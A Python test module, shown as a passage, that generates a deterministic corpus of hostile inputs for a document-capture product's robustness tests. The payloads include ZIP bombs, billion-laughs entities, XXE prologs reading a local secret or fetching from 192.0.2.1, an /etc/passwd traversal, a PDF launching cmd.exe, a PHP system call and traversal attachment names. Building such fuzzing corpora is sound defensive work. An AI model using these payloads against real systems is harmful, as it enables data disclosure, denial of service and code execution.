"""A seeded corpus of malformed and adversarial inputs (issue 9, requirement 3).

``cases()`` yields named :class:`Case` objects, the same ones in the same order for the same
seed. Each has an ``id`` (stable, unique), a ``kind`` (what is hostile about it) and a
``stage`` (where it goes in; ``tests/perf/hostile_run.py`` runs them):

- ``capture``: a file (``name`` + ``data``) for ``capture_files``: truncations and byte flips
  of valid PDF/DOCX/XLSX/EML/MSG/HTML/MHT/PNG/JPEG/TXT files, ZIP bombs (declared and real),
  broken XML, billion laughs, XXE (``forbidden``: text that must never come back), PDFs with
  broken or looping cross references and absurd object counts, malformed mail and MSG,
  huge single lines, binary content under text names, hostile file names and paths, and
  special files (pipes, folders, dangling links);
- ``field``: a value for one field of a task, source, finding, entity, an audit
  justification or a capture's provenance, created or updated (``op``);
- ``search``: a query string (FTS5 syntax, control characters, very long queries);
- ``name``: a file name for the export's ``safe_file_name``.

File contents are built from fixed inputs (no clock, no random boundaries), so the bytes of
a case are the same on every run. Names, numbers and addresses are invented (07700 900xxx,
example.org)."""

from __future__ import annotations

import hashlib
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import extract_factory as ef
import ole_writer

SEED = 2026
MB = 1024 * 1024
XXE_SECRET = "TOEX-XXE-SECRET-6c1f"  # the runner writes it into the file the XXE points at


@dataclass(frozen=True)
class Case:
    id: str
    kind: str
    stage: str  # capture | field | search | name
    name: str = ""  # capture: the file name (Linux-legal); name: the name to clean
    data: bytes = b""
    subdirs: tuple[str, ...] = ()  # capture: folders between the work folder and the file
    special: str = ""  # capture: fifo, folder, dangling, loop, missing, mtime
    forbidden: str = ""  # capture: text that must not appear in the extracted text
    record: str = ""  # field: task, source, finding, entity, justification, provenance
    field: str = ""
    op: str = ""  # field: create | update
    value: str = ""  # field value or query
    expect: str = ""  # "", "stored" or "refused": what a correct product must do

    @property
    def digest(self) -> str:
        """A fingerprint of everything the case feeds in (for the determinism check)."""
        parts = [self.id, self.kind, self.stage, self.name, "/".join(self.subdirs)]
        parts += [self.special, self.record, self.field, self.op, self.expect]
        h = hashlib.sha256("\x1f".join(parts).encode("utf-8", "surrogatepass"))
        h.update(self.data)
        h.update(self.value.encode("utf-8", "surrogatepass"))
        return h.hexdigest()


# --- valid base files, built deterministically -----------------------------------------------
FIXED_DATE = (2026, 1, 1, 0, 0, 0)
_STAMP = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(<)")


def normalise_zip(archive: bytes) -> bytes:
    """The same ZIP with fixed member dates and document dates (python-docx and openpyxl
    stamp the time of writing)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "docProps/core.xml":
                data = _STAMP.sub(rb"\g<1>2026-01-01T00:00:00Z\g<2>", data)
            member = zipfile.ZipInfo(info.filename, date_time=FIXED_DATE)
            member.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(member, data)
    return out.getvalue()


@cache
def base_pdf() -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, invariant=1)
    for text in (f"{ef.PERSON} phoned {ef.PHONE}", "Depot on Mill Lane", "Third page"):
        pdf.drawString(72, 720, text)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


@cache
def base_docx() -> bytes:
    return normalise_zip(ef.docx_bytes())


@cache
def base_xlsx() -> bytes:
    return normalise_zip(ef.xlsx_bytes())


BOUNDARY = "toex-boundary-0001"
EML = (
    "From: Ada Quill <ada.quill@example.org>\r\n"
    "To: Bram Fellow <bram.fellow@example.org>\r\n"
    "Subject: Depot meeting\r\n"
    "Date: Thu, 08 Jan 2026 09:30:00 +0000\r\n"
    "Message-ID: <hostile-0001@example.org>\r\n"
    "MIME-Version: 1.0\r\n"
    f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"\r\n'
    "\r\n"
    f"--{BOUNDARY}\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n"
    "Content-Transfer-Encoding: quoted-printable\r\n"
    "\r\n"
    "Meet at the depot. Call me on 07700 900123. Dritë =C3=87ela knows.\r\n"
    f"--{BOUNDARY}\r\n"
    'Content-Type: application/pdf; name="plan.pdf"\r\n'
    'Content-Disposition: attachment; filename="plan.pdf"\r\n'
    "Content-Transfer-Encoding: base64\r\n"
    "\r\n"
    "JVBERi0xLjQgZmFrZQ==\r\n"
    f"--{BOUNDARY}--\r\n"
).encode()

MHT = (
    "From: <Saved by Blink>\r\n"
    "Snapshot-Content-Location: https://example.org/forum/thread-17\r\n"
    "Subject: Forum thread 17\r\n"
    "Date: Fri, 09 Jan 2026 10:00:00 -0000\r\n"
    "MIME-Version: 1.0\r\n"
    f'Content-Type: multipart/related; type="text/html"; boundary="{BOUNDARY}"\r\n'
    "\r\n"
    f"--{BOUNDARY}\r\n"
    "Content-Type: text/html; charset=utf-8\r\n"
    "Content-Location: https://example.org/forum/thread-17\r\n"
    "\r\n"
    "<html><head><title>Forum thread 17</title></head>"
    "<body><p>Selling phones, text 07700 900123</p><script>var x = 1;</script></body></html>\r\n"
    f"--{BOUNDARY}--\r\n"
).encode()

TXT = b"Visit note: flat 4, Marsh Court; called 07700 900123.\nSecond line.\n"
CSV = b"name,phone\r\nAda Quill,07700 900123\r\nBram Fellow,07700 900456\r\n"


@cache
def bases() -> dict[str, tuple[str, bytes]]:
    """Format → (extension, bytes) of a valid file."""
    return {
        "pdf": (".pdf", base_pdf()),
        "docx": (".docx", base_docx()),
        "xlsx": (".xlsx", base_xlsx()),
        "eml": (".eml", EML),
        "msg": (".msg", ef.msg_bytes()),
        "html": (".html", ef.html_bytes()),
        "mht": (".mht", MHT),
        "png": (".png", ef.image_bytes("PNG")),
        "jpeg": (".jpg", ef.image_bytes("JPEG")),
        "txt": (".txt", TXT),
        "csv": (".csv", CSV),
    }


# --- file cases --------------------------------------------------------------------------------
def _truncations(rng: random.Random) -> Iterator[Case]:
    for fmt, (ext, data) in bases().items():
        n = len(data)
        points = {1, 2, 4, 8, 16, 64, 512, n // 4, n // 2, (3 * n) // 4, n - 64, n - 8, n - 1}
        while len(points) < 26:
            points.add(rng.randrange(1, n))
        for i, cut in enumerate(sorted(p for p in points if 0 < p < n)):
            yield Case(
                f"cap/trunc/{fmt}/{i:02d}",
                f"truncated_{fmt}",
                "capture",
                f"truncated-{cut}{ext}",
                data[:cut],
            )


def _flips(rng: random.Random) -> Iterator[Case]:
    for fmt, (ext, data) in bases().items():
        for i in range(14):
            out = bytearray(data)
            for _ in range(rng.choice((1, 2, 4, 16, 64))):
                pos = rng.randrange(len(out))
                out[pos] ^= rng.randrange(1, 256)
            yield Case(
                f"cap/flip/{fmt}/{i:02d}",
                f"byteflip_{fmt}",
                "capture",
                f"flipped-{i}{ext}",
                bytes(out),
            )
        for i in range(5):  # a run of garbage over part of the file
            out = bytearray(data)
            start = rng.randrange(len(out))
            length = min(len(out) - start, rng.randrange(16, 4096))
            out[start : start + length] = rng.randbytes(length)
            yield Case(
                f"cap/garble/{fmt}/{i}",
                f"garbled_{fmt}",
                "capture",
                f"garbled-{i}{ext}",
                bytes(out),
            )


def _zip_with(members: dict[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, date_time=FIXED_DATE), data)
    return out.getvalue()


def replace_member(archive: bytes, name: str, content: bytes) -> bytes:
    """The same ZIP with one member's content replaced (dates fixed)."""
    members = _members(archive)
    members[name] = content
    return _zip_with(members, level=6)


def add_member_streaming(archive: bytes, name: str, size: int) -> bytes:
    """The same ZIP plus a member of ``size`` zero bytes, deflated as it is written."""
    out = io.BytesIO(archive)
    block = bytes(MB)
    member = zipfile.ZipInfo(name, date_time=FIXED_DATE)
    member.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "a") as z, z.open(member, "w", force_zip64=True) as fh:
        for _ in range(size // len(block)):
            fh.write(block)
    return out.getvalue()


def _members(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


@cache
def _real_bomb(fmt: str, size: int) -> bytes:
    member = "word/media/zeros.bin" if fmt == "docx" else "xl/media/zeros.bin"
    return add_member_streaming(bases()[fmt][1], member, size)


@cache
def _flate_bomb() -> bytes:
    return zlib.compress(b"BT /F1 12 Tf 72 720 Td (x) Tj ET\n" + bytes(150 * MB), 9)


def _many_members(fmt: str, count: int) -> bytes:
    members = _members(bases()[fmt][1])
    members.update({f"customXml/item{i}.xml": b"<a/>" for i in range(count)})
    return _zip_with(members, level=1)


def _overlapping(fmt: str) -> bytes:
    """Central directory entries that all point at one local entry, each declaring a big
    size (the "overlapping files" bomb, in its simplest form)."""
    data = bytearray(bases()[fmt][1])
    cd = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    first = bytes(data[cd : data.find(b"PK\x01\x02", cd + 4)])
    entries = b""
    for i in range(2000):
        entry = bytearray(first)
        struct.pack_into("<I", entry, 24, 150 * MB)
        name_len = struct.unpack_from("<H", entry, 28)[0]
        entry[46 : 46 + name_len] = f"{i:0{name_len}d}"[-name_len:].encode()
        entries += entry
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, 2000, 2000, len(entries), cd)
    return bytes(data[:cd]) + entries + bytes(tail)


def _zip_bombs() -> Iterator[Case]:
    for fmt, part in (("docx", "word/document.xml"), ("xlsx", "xl/worksheets/sheet1.xml")):
        ext, data = bases()[fmt]
        for size in (300 * MB, 2**32 - 1, 5 * MB):
            yield Case(
                f"cap/zipbomb/{fmt}/declared-{size}",
                f"zipbomb_declared_{fmt}",
                "capture",
                f"declared-bomb{ext}",
                ef.declare_size(data, part, size),
            )
        for size in (4 * MB, 210 * MB):
            bomb = _real_bomb(fmt, size)
            yield Case(
                f"cap/zipbomb/{fmt}/real-{size}",
                f"zipbomb_real_{fmt}",
                "capture",
                f"real-bomb-{size // MB}MB{ext}",
                bomb,
            )
        yield Case(
            f"cap/zipbomb/{fmt}/members",
            f"zipbomb_members_{fmt}",
            "capture",
            f"many-members{ext}",
            _many_members(fmt, 10_050),
        )
        yield Case(
            f"cap/zipbomb/{fmt}/overlap",
            f"zipbomb_overlap_{fmt}",
            "capture",
            f"overlap{ext}",
            _overlapping(fmt),
        )
        nested = replace_member(data, part, _zip_with({"inner.xml": bytes(8 * MB)}))
        yield Case(
            f"cap/zipbomb/{fmt}/nested", f"zipbomb_nested_{fmt}", "capture", f"nested{ext}", nested
        )


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _docx_xml(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()


def _sheet_xml(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{S_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        f"{body}</t></is></c></row></sheetData></worksheet>"
    ).encode()


BROKEN_XML: dict[str, bytes] = {
    "unclosed": b'<?xml version="1.0"?><w:document><w:body><w:p>',
    "garbage": b"\x00\x01\x02 this is not xml \xff\xfe",
    "empty": b"",
    "bad-utf8": _docx_xml("caf\xe9").replace("caf\xe9".encode(), b"caf\xe9\xff\xfe"),
    "wrong-encoding": b'<?xml version="1.0" encoding="UTF-16"?><a>plain ascii</a>',
    "unknown-encoding": b'<?xml version="1.0" encoding="x-toex-none"?><a/>',
    "undeclared-prefix": b'<?xml version="1.0"?><w:document><w:body/></w:document>',
    "control-chars": _docx_xml("a\x01b\x1bc"),
    "deep": b"<a>" * 200_000 + b"</a>" * 200_000,
    "wide": b'<?xml version="1.0"?><r ' + b" ".join(b'a%d="x"' % i for i in range(50_000)) + b"/>",
    "huge-text": _docx_xml("x" * (3 * MB)),
    "two-roots": b"<a/><b/>",
    "cdata-unclosed": b"<a><![CDATA[never closed",
    "pi-only": b'<?xml version="1.0"?><?php system("id"); ?>',
    "bom-mismatch": b"\xff\xfe<\x00a\x00/\x00>\x00" + b"junk",
}


def _broken_xml() -> Iterator[Case]:
    targets = {
        "docx": ("word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"),
        "xlsx": ("xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"),
    }
    for fmt, (main, *others) in targets.items():
        ext, data = bases()[fmt]
        for label, xml in BROKEN_XML.items():
            yield Case(
                f"cap/xml/{fmt}/{label}",
                f"broken_xml_{fmt}",
                "capture",
                f"broken-{label}{ext}",
                replace_member(data, main, xml),
            )
        for part in others:
            safe = part.replace("/", "_").replace("[", "").replace("]", "")
            yield Case(
                f"cap/xml/{fmt}/{safe}",
                f"broken_xml_{fmt}",
                "capture",
                f"broken-{safe}{ext}",
                replace_member(data, part, b"<junk"),
            )
            members = {k: v for k, v in _members(data).items() if k != part}
            yield Case(
                f"cap/xml/{fmt}/missing-{safe}",
                f"broken_xml_{fmt}",
                "capture",
                f"missing-{safe}{ext}",
                _zip_with(members),
            )
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/officeDocument" Target="../../../../etc/passwd"/>'
        b"</Relationships>"
    )
    for fmt in ("docx", "xlsx"):
        ext, data = bases()[fmt]
        yield Case(
            f"cap/xml/{fmt}/rels-traversal",
            f"broken_xml_{fmt}",
            "capture",
            f"rels-traversal{ext}",
            replace_member(data, "_rels/.rels", rels),
        )


QUADRATIC = '<!DOCTYPE q [<!ENTITY big "' + "A" * 50_000 + '">]>'


def _entity_attacks(secret: Path) -> Iterator[Case]:
    uri = secret.as_uri()
    xxe = {
        "system": f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{uri}">]>',
        "parameter": f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{uri}"> %p;]>',
        "external-dtd": f'<!DOCTYPE d SYSTEM "{uri}">',
        "network": '<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://192.0.2.1/x">]>',
    }
    docx, xlsx = bases()["docx"][1], bases()["xlsx"][1]
    for label, prolog in xxe.items():
        body = "start &xxe; end" if "xxe" in prolog else "start end"
        for fmt, data, part, make in (
            ("docx", docx, "word/document.xml", _docx_xml),
            ("xlsx", xlsx, "xl/worksheets/sheet1.xml", _sheet_xml),
            ("xlsx", xlsx, "xl/styles.xml", None),
            ("docx", docx, "docProps/core.xml", None),
        ):
            xml = make(body, prolog) if make else _with_doctype(_members(data)[part], prolog, body)
            yield Case(
                f"cap/xxe/{fmt}/{part.replace('/', '_')}/{label}",
                f"xxe_{fmt}",
                "capture",
                f"xxe-{label}.{fmt}",
                replace_member(data, part, xml),
                forbidden=XXE_SECRET,
            )
    html = f"<!DOCTYPE html [<!ENTITY xxe SYSTEM '{uri}'>]><html><body>&xxe;</body></html>"
    yield Case(
        "cap/xxe/html", "xxe_html", "capture", "xxe.html", html.encode(), forbidden=XXE_SECRET
    )
    yield Case("cap/xxe/txt", "xxe_html", "capture", "xxe.xml", html.encode(), forbidden=XXE_SECRET)
    laughs = ef.BILLION_LAUGHS_DTD
    docx_laughs = replace_member(docx, "word/document.xml", _docx_xml("a &lol9; b", laughs))
    yield Case("cap/laughs/docx", "billion_laughs", "capture", "laughs.docx", docx_laughs)
    xlsx_laughs = replace_member(xlsx, "xl/worksheets/sheet1.xml", _sheet_xml("&lol9;", laughs))
    yield Case("cap/laughs/xlsx", "billion_laughs", "capture", "laughs.xlsx", xlsx_laughs)
    for fmt, data, part, make in (
        ("docx", docx, "word/document.xml", _docx_xml),
        ("xlsx", xlsx, "xl/worksheets/sheet1.xml", _sheet_xml),
    ):
        yield Case(
            f"cap/laughs/quadratic-{fmt}",
            "billion_laughs",
            "capture",
            f"quadratic.{fmt}",
            replace_member(data, part, make("&big;" * 20_000, QUADRATIC)),
        )
    laughs_html = ef.BILLION_LAUGHS_DTD + "<html><body>&lol9;</body></html>"
    yield Case("cap/laughs/html", "billion_laughs", "capture", "laughs.html", laughs_html.encode())
    eml = EML.replace(b"Meet at the depot.", ef.BILLION_LAUGHS_DTD.encode() + b"&lol9;")
    yield Case("cap/laughs/eml", "billion_laughs", "capture", "laughs.eml", eml)


def _with_doctype(xml: bytes, prolog: str, body: str) -> bytes:
    """``xml`` with a DOCTYPE after its declaration and an entity reference in its text."""
    text = xml.decode("utf-8")
    decl_end = text.find("?>") + 2 if text.startswith("<?xml") else 0
    root_end = text.find(">", decl_end + 1) + 1
    return (text[:decl_end] + prolog + text[decl_end:root_end] + body + text[root_end:]).encode()


def _pdf(objects: list[bytes], trailer: bytes, *, xref: bool = True, root: int = 1) -> bytes:
    """A PDF from raw objects (numbered from 1) with a correct xref unless told not to."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _page_objects(content: bytes, extra: bytes = b"") -> list[bytes]:
    stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + extra + b">>",
        stream,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


TEXT_OP = b"BT /F1 12 Tf 72 720 Td (Ada Quill 07700 900123) Tj ET"


def _hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    ok = _page_objects(TEXT_OP)
    yield "handmade-valid", _pdf(ok, b"<< /Size 6 /Root 1 0 R >>")
    yield "xref-recoverable", _broken_xref(base_pdf(), True)
    yield "xref-unrecoverable", _broken_xref(base_pdf(), False)
    yield "no-xref", _pdf(ok, b"<< /Size 6 /Root 1 0 R >>", xref=False)
    yield "prev-into-header", _pdf(ok, b"<< /Size 6 /Root 1 0 R /Prev 9 >>")
    data = _pdf(ok, b"<< /Size 6 /Root 1 0 R >>")
    start = data.rfind(b"startxref\n") + 10
    offset = int(data[start : data.find(b"\n", start)])
    yield "prev-self", data.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %d >>" % offset)
    yield "size-huge", _pdf(ok, b"<< /Size 999999999 /Root 1 0 R >>")
    yield "size-negative", _pdf(ok, b"<< /Size -5 /Root 1 0 R >>")
    kids_loop = list(ok)
    kids_loop[1] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    yield "pages-self-loop", _pdf(kids_loop, b"<< /Size 6 /Root 1 0 R >>")
    parent_loop = list(ok)
    parent_loop[2] = parent_loop[2].replace(b"/Type /Page ", b"/Type /Pages /Kids [2 0 R] ")
    yield "pages-mutual-loop", _pdf(parent_loop, b"<< /Size 6 /Root 1 0 R >>")
    count = list(ok)
    count[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"
    yield "count-huge", _pdf(count, b"<< /Size 6 /Root 1 0 R >>")
    ref_loop = list(ok)
    ref_loop.append(b"7 0 R")
    ref_loop.append(b"6 0 R")
    ref_loop[2] = ref_loop[2].replace(b"/Contents 4 0 R", b"/Contents 6 0 R")
    yield "indirect-loop", _pdf(ref_loop, b"<< /Size 8 /Root 1 0 R >>")
    deep = b"[" * 100_000 + b"]" * 100_000
    yield "deep-array", _pdf([*ok, deep], b"<< /Size 7 /Root 1 0 R /X 6 0 R >>")
    dict_deep = b"<< /A " * 50_000 + b"1" + b" >>" * 50_000
    yield "deep-dict", _pdf([*ok, dict_deep], b"<< /Size 7 /Root 1 0 R >>")
    many = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    n_pages = 3000
    kids = b" ".join(b"%d 0 R" % (i + 4) for i in range(n_pages))
    many.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n_pages)
    many.append(b"<< /Length 0 >>\nstream\n\nendstream")
    many += [b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>"] * n_pages
    yield "pages-3000", _pdf(many, b"<< /Size %d /Root 1 0 R >>" % (len(many) + 1))
    objects = [*ok] + [b"<< /N %d >>" % i for i in range(60_000)]
    yield "objects-60000", _pdf(objects, b"<< /Size %d /Root 1 0 R >>" % (len(objects) + 1))
    bomb = _flate_bomb()
    flate = list(ok)
    flate[3] = (
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    )
    yield "flate-bomb", _pdf(flate, b"<< /Size 6 /Root 1 0 R >>")
    bad_flate = list(ok)
    junk = b"x\x9c" + bytes(range(256)) * 4
    bad_flate[3] = (
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(junk) + junk + b"\nendstream"
    )
    yield "flate-garbage", _pdf(bad_flate, b"<< /Size 6 /Root 1 0 R >>")
    chain = list(ok)
    chain[3] = (
        b"<< /Length 4 /Filter [/FlateDecode /LZWDecode /ASCII85Decode /RunLengthDecode "
        b"/DCTDecode /JBIG2Decode /Crypt] >>\nstream\nabcd\nendstream"
    )
    yield "filter-chain", _pdf(chain, b"<< /Size 6 /Root 1 0 R >>")
    length_lie = list(ok)
    length_lie[3] = b"<< /Length 999999999 >>\nstream\n" + TEXT_OP + b"\nendstream"
    yield "length-lie", _pdf(length_lie, b"<< /Size 6 /Root 1 0 R >>")
    js = list(ok)
    js[0] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >> >>"
    )
    yield "javascript-launch", _pdf(js, b"<< /Size 6 /Root 1 0 R >>")
    text_ops = b"BT /F1 12 Tf " + b"(x) Tj " * 400_000 + b"ET"
    yield "text-ops-400k", _pdf(_page_objects(text_ops), b"<< /Size 6 /Root 1 0 R >>")
    nul_text = b"BT /F1 12 Tf 72 720 Td (a\\000b\\033c\\342\\200\\256evil) Tj ET"
    yield "control-text", _pdf(_page_objects(nul_text), b"<< /Size 6 /Root 1 0 R >>")
    no_font = _page_objects(b"BT /F9 12 Tf 72 720 Td (no such font) Tj ET")
    yield "missing-font", _pdf(no_font, b"<< /Size 6 /Root 1 0 R >>")
    yield "no-root", _pdf(ok, b"<< /Size 6 >>")
    yield "root-not-dict", _pdf(ok, b"<< /Size 6 /Root 4 0 R >>")
    yield "header-only", b"%PDF-1.7\n"
    yield "eof-only", b"%PDF-1.7\n%%EOF\n"
    yield "encrypted-rc4", _encrypted_pdf("RC4-128")
    yield "encrypted-aes", _encrypted_pdf("AES-256")
    yield "startxref-past-end", data.replace(b"startxref\n%d" % offset, b"startxref\n99999999")
    yield "startxref-negative", data.replace(b"startxref\n%d" % offset, b"startxref\n-1")


@cache
def _encrypted_pdf(algorithm: str) -> bytes:
    """``base_pdf`` encrypted with a user password; pypdf's random salts and file id are
    drawn from a seeded generator, so the bytes are the same every time."""
    import secrets
    from unittest import mock

    from pypdf import PdfWriter

    rng = random.Random(algorithm)
    with (
        mock.patch.object(secrets, "token_bytes", lambda n=32: rng.randbytes(n)),
        mock.patch("os.urandom", lambda n: rng.randbytes(n)),
    ):
        writer = PdfWriter(clone_from=io.BytesIO(base_pdf()))
        writer.encrypt("open-sesame", owner_password="owner-secret", algorithm=algorithm)
        buffer = io.BytesIO()
        writer.write(buffer)
    return buffer.getvalue()


def _broken_xref(data: bytes, recoverable: bool) -> bytes:
    xref, trailer = data.find(b"\nxref\n") + 1, data.rfind(b"trailer")
    if recoverable:
        return data[:xref] + data[xref:trailer].replace(b"0000000", b"9999999") + data[trailer:]
    body = data[:xref].replace(b" obj", b" job")
    return body + b"xref\n0 9\n0000 junk 0000\n" + data[trailer:]


def _pdf_cases() -> Iterator[Case]:
    for label, data in _hostile_pdfs():
        yield Case(f"cap/pdf/{label}", "pdf_structure", "capture", f"{label}.pdf", data)


def _eml_variants() -> Iterator[tuple[str, bytes]]:
    body = EML.split(b"\r\n\r\n", 1)[1]
    head = EML.split(b"\r\n\r\n", 1)[0]
    yield "no-colon-headers", b"From Ada\r\nThis is not a header\r\n\r\n" + body
    yield "header-1mb", b"Subject: " + b"A" * MB + b"\r\n" + EML
    yield "header-folding-50k", b"Subject: a\r\n" + b" b\r\n" * 50_000 + b"\r\n" + body
    yield "headers-20k", b"".join(b"X-H%d: v\r\n" % i for i in range(20_000)) + EML
    yield "bad-encoded-word", EML.replace(b"Depot meeting", b"=?utf-8?B?!!!not base64?=")
    yield "unknown-charset-word", EML.replace(b"Depot meeting", b"=?x-toex-none?Q?caf=E9?=")
    yield "unknown-body-charset", EML.replace(b"charset=utf-8", b"charset=x-toex-none")
    yield "charset-utf7", EML.replace(b"charset=utf-8", b"charset=utf-7")
    yield "base64-garbage", EML.replace(b"quoted-printable", b"base64")
    yield "qp-garbage", EML.replace(b"=C3=87", b"=ZZ=\r\n=\r\n=X")
    yield "missing-boundary", EML.replace(f'; boundary="{BOUNDARY}"'.encode(), b"")
    yield "empty-boundary", EML.replace(f'boundary="{BOUNDARY}"'.encode(), b'boundary=""')
    yield "unclosed-boundary", EML.replace(f"--{BOUNDARY}--".encode(), b"")
    yield "boundary-in-body", EML.replace(b"Meet at the depot.", f"--{BOUNDARY}".encode())
    nested = b""
    for i in range(1200):
        nested += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
    yield "nested-1200", head + b"\r\n" + nested + b"\r\ntext\r\n"
    parts = b"".join(
        f"--{BOUNDARY}\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n".encode()
        for i in range(20_000)
    )
    yield "parts-20k", head + b"\r\n\r\n" + parts + f"--{BOUNDARY}--\r\n".encode()
    yield "nul-in-headers", EML.replace(b"Subject: Depot", b"Subject: \x00Depot\x00")
    yield "8bit-headers", EML.replace(b"Depot meeting", "Dépôt \u202eevil".encode() + b"\xff\xfe")
    yield "date-nonsense", EML.replace(b"Thu, 08 Jan 2026 09:30:00 +0000", b"99 Foo 99999 99:99")
    yield "from-control", EML.replace(b"Ada Quill", b"Ada\x1b[31m\x07Quill")
    yield (
        "attachment-traversal",
        EML.replace(b'filename="plan.pdf"', b'filename="../../evil\xe2\x80\xae.exe"'),
    )
    yield (
        "rfc2231-garbage",
        EML.replace(b'filename="plan.pdf"', b"filename*=utf-8''%ZZ%E2%80%AE; filename*0*=x"),
    )
    yield "content-type-garbage", EML.replace(b"multipart/mixed", b'multipart/\x00\xff;;;;==="""')
    yield "cte-unknown", EML.replace(b"quoted-printable", b"x-uuencode-toex")
    yield (
        "html-only-script",
        EML.replace(b"text/plain", b"text/html").replace(
            b"Meet at the depot.", b"<script>alert(1)</script><style>x</style><b>bold</b>"
        ),
    )
    yield "only-headers", head
    yield "crlf-mix", EML.replace(b"\r\n", b"\r")
    yield "lf-only", EML.replace(b"\r\n", b"\n")
    yield (
        "message-rfc822-loop",
        head
        + b"\r\n\r\n--"
        + BOUNDARY.encode()
        + (b"\r\nContent-Type: message/rfc822\r\n\r\n" + head + b"\r\n\r\n") * 300,
    )
    yield "body-huge-line", EML.replace(b"Meet at the depot.", b"M" * (2 * MB))


def _mail_cases() -> Iterator[Case]:
    for label, data in _eml_variants():
        yield Case(f"cap/eml/{label}", "eml_malformed", "capture", f"{label}.eml", data)
    for label, data in (
        ("no-html", MHT.replace(b"text/html; charset", b"text/x-none; charset")),
        ("unclosed", MHT.replace(f"--{BOUNDARY}--".encode(), b"")),
        ("deep-html", MHT.replace(b"<p>Selling", b"<div>" * 100_000 + b"<p>Selling")),
        (
            "location-control",
            MHT.replace(b"thread-17\r\nSubject", b"thr\x1b\xe2\x80\xaeead\r\nSubject"),
        ),
        ("charset-bogus", MHT.replace(b"charset=utf-8", b"charset=\xff\xfe")),
        ("laughs", MHT.replace(b"<html>", ef.BILLION_LAUGHS_DTD.encode() + b"<html>&lol9;")),
    ):
        yield Case(f"cap/mht/{label}", "mht_malformed", "capture", f"{label}.mht", data)


def _msg_variants(rng: random.Random) -> Iterator[tuple[str, bytes]]:
    yield "not-ole-text", b"This is plain text pretending to be an Outlook message."
    yield "not-ole-zip", bases()["docx"][1]
    yield "ole-no-streams", ef.ole_not_msg_bytes()
    yield "ole-empty", ole_writer.build({"x": b""})
    for i in range(4):
        yield (
            f"props-garbage-{i}",
            ef.build_msg(ef.msg_parts(), properties=rng.randbytes(32 + 16 * i)),
        )
    yield "props-truncated", ef.build_msg(ef.msg_parts(), properties=b"\0" * 37)
    yield "props-empty", ef.build_msg(ef.msg_parts(), properties=b"")
    big = ef.msg_parts()
    big["message"][(0x3FFD, ef.INT32)] = 99_999  # a code page nobody has
    big["message"][(ef.SUBJECT, ef.STRING8)] = b"caf\xe9 \x81\x8d\x8f\x90\x9d"
    yield "codepage-unknown", ef.build_msg(big)
    odd = ef.msg_parts()
